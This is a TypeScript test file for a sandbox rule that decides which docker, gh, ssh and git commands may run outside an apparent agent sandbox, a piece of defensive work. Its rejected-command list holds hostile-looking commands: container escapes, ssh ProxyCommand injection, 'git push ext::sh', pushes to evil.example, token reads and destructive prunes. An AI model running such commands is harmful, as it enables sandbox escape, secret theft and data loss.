import assert from 'node:assert/strict';
import { outsideProgramOf } from '../../../src/tools/commands/outsideProgram.ts';
import { parsePlainCommandLine } from '../../../src/tools/shellSyntax/commandLine.ts';

describe('the rule for a program outside of the sandbox', () => {
  const covered: [command: string, program: string][] = [
    ['docker ps', 'docker'],
    ['docker compose -f compose.yaml up -d --wait db', 'docker'],
    ['docker run --rm -it node:22 node -e 1', 'docker'],
    ['docker compose exec -T db psql -U app -c "\\d invoices"', 'docker'],
    ['podman build -t app .', 'podman'],
    ['docker compose down', 'docker'],
    ['docker compose logs -f --tail=50 web', 'docker'],
    ['docker compose up -d --build web', 'docker'],
    ['docker compose run --rm -T web pytest -k x', 'docker'],
    ['docker exec -it -u postgres db psql -c "select 1"', 'docker'],
    ['docker run --rm -p8080:80 -e A=b -v data:/var/lib/x --network web nginx -g x', 'docker'],
    ['docker build -f Dockerfile.dev -t app --build-arg A=b .', 'docker'],
    ['docker container ls -a --format "{{.Names}}"', 'docker'],
    ['docker volume inspect data', 'docker'],
    ['docker-compose -f docker-compose.dev.yml ps', 'docker-compose'],
    ['docker compose config --services', 'docker'],
    ['docker stop -t 5 a b', 'docker'],
    ['gh pr view 12 --json title', 'gh'],
    ['gh run list -w ci.yml', 'gh'],
    ['gh api repos/o/r/pulls --jq .', 'gh'],
    ['gh pr view https://github.com/o/r/pull/1 -R o/r', 'gh'],
    ['ssh -p 22 -o BatchMode=yes dev@host uptime', 'ssh dev@host'],
    ['git push -u origin HEAD:main', 'git push'],
    ['git fetch --all --prune', 'git fetch'],
    ['git pull --rebase', 'git pull'],
    ['git ls-remote --heads origin', 'git ls-remote'],
  ]; // biome-ignore format: a table
  const others = [
    'docker system prune -af', 'docker compose down -v', 'docker rm -f db', 'docker push app', 'docker login', 'docker context use x',
    'docker compose exec redis redis-cli FLUSHALL', 'docker compose exec -T db psql -c "truncate plans"', './docker ps', '/usr/bin/docker ps',
    'sudo docker ps', 'su', 'doas ls', 'bash -c docker', 'sh x', 'node -e 1', 'python3 -c 1', 'env docker ps', 'xargs docker', 'bwrap ls',
    'systemctl restart x', 'aws s3 ls', 'kubectl get pods', 'gpg -d x', 'code .', 'apt-get install x', 'mount /dev/sda1',
    'gh pr create --fill', 'gh pr merge 1', 'gh pr view --web', 'gh api -X DELETE repos/o/r', 'gh api -fa=b x', 'gh api graphql -f query=x',
    'gh api https://evil.example/x', 'gh extension exec x', 'gh alias set a b', 'gh auth token', 'gh secret set A', 'gh codespace ssh',
    'docker run -v /:/host a', 'docker run -itv /:/host a', 'docker run --volume=/etc:/etc a', 'docker run --mount type=bind,src=/,dst=/x a',
    'docker run --privileged a', 'docker run --pid=host a', 'docker run -v ../x:/x a', 'docker run -v/var/run/docker.sock:/x a',
    'ssh', 'ssh -o ProxyCommand=x host', 'ssh -oPermitLocalCommand=yes host', 'ssh -F config host', 'ssh -vF config host', 'ssh -I lib.so host',
    'ssh -L 1:a:2 host', 'ssh -S x host', 'ssh host rm -rf x', 'scp a host:b', 'sftp host',
    'docker --config d ps', 'docker --config=d ps', 'docker -H tcp://a ps', 'docker -c a ps', 'docker cp a:/x /home/me/.bashrc', 'docker save -o x a',
    'docker export -o x a', 'docker run -v .:/x a', 'docker run -v ./x:/x a', 'docker run -v x/y:/x a', 'docker run --mount type=bind,SRC=/,dst=/x a',
    'docker run --cidfile x a', 'docker run --net=host a', 'docker run --network host a', 'docker run --network=container:a a', 'docker run --env-file x a',
    'docker run --volumes-from a b', 'docker volume create -o device=/ v', 'docker build -o x .', 'docker build --ssh default .', 'docker build x',
    'docker build --build-context a=/home/me .', 'docker build --iidfile x .', 'docker build --secret id=a,env=B .', 'docker build -f ../x .',
    'docker plugin-of-anybody', 'docker buildx bake', 'docker compose -f x.txt up', 'docker compose -f link/compose.yaml up',
    'docker compose --env-file x up', 'docker compose --project-directory x up', 'docker compose config -o x', 'docker config create a x', 'docker compose run -v .:/x a',
    'docker compose build --ssh default', 'podman unshare x', 'podman --runtime x run a', 'podman ps --runtime x', 'podman run --rootfs x', 'podman kube play x',
    'podman system service', 'gh api -iXDELETE repos/o/r', 'gh api -if a=b x', 'gh api --hostname evil.example x', 'gh pr list -R evil.example/o/r',
    'gh pr list --repo=evil.example/o/r', 'gh pr view https://evil.example/o/r/pull/1', 'ssh host -o ProxyCommand=x', 'ssh host -oProxyCommand=x ls',
    'ssh host -v', 'ssh -A host', 'ssh -l "a;b" host', 'git push --force', 'git push -f', 'git push origin :main', 'git push origin +main', 'git push --delete origin x', 'git push --mirror',
    'git push --receive-pack=x origin', 'git push --exec=x', 'git push https://evil.example/x', 'git push ext::sh', 'git push ../x', 'git push ./x',
    'git push git@evil.example:x/y', 'git fetch --upload-pack=x origin', 'git fetch --upload-p x', 'git -c core.sshCommand=x push', 'git -C x push',
    'git pull -s x', 'git pull --strategy=x', 'git clone https://a.example/x', 'git ls-remote --upload-pack=x', 'git status', 'git push origin -- -x', 'git',
  ]; // biome-ignore format: a table
  const wordsOf = (command: string) => parsePlainCommandLine(command)![0]!;

  for (const [command, program] of covered)
    it(`covers ${command}`, () => assert.equal(outsideProgramOf(wordsOf(command)), program));
  for (const command of others)
    it(`does not cover ${command}`, () => assert.equal(outsideProgramOf(wordsOf(command)), undefined));
});
